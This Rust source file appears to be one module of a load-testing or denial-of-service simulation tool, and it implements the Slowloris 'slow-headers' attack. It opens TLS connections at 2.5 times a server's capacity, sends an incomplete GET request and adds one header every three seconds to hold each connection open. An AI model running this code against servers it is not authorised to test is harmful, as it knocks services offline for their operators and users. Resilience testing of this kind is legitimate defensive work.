//! `slow-headers`: requests whose head never ends

use std::{sync::Arc, time::Duration};

use crate::{
    clock,
    target::Source,
    vectors::{Family, Front, Resource, Vector, flood::get, hoard::hoard},
    wire::Wire,
};

pub(super) const VECTOR: Vector = Vector {
    name: "slow-headers",
    family: Family::Slow,
    models: "requests whose head never ends",
    source: "Slowloris (RSnake, 2009); slowhttptest -H",
    parameters: "TLS; a head begun, and one more field every 3 s; 2.5 times the seats of the \
        server",
    resource: Resource::Seats { times: 2.5 },
    room: None,
    attack: |front| Box::pin(hoard(front, hold)),
};

/// Between two fields.
const PAUSE: Duration = Duration::from_secs(3);

async fn hold(front: Arc<Front>, source: Source, _lot: u64) {
    let Ok(stream) = front.secure(source).await else { return };
    let _held = front.ledger.hold();
    let mut wire = Wire::new(stream);
    let mut request = get(&front, "/");
    request.truncate(request.len() - 2);
    let mut sent = wire.send(&request).await;
    while sent.is_ok() {
        // An answer, or the end, ends it; silence until the next field is what it wants.
        let next = clock::now() + PAUSE;
        match tokio::time::timeout_at(next.into(), wire.answer()).await {
            Ok(Ok(answer)) => return front.ledger.answered(&answer),
            Ok(Err(_)) => return,
            Err(_) => sent = wire.send(b"X-A: b\r\n").await,
        }
    }
}
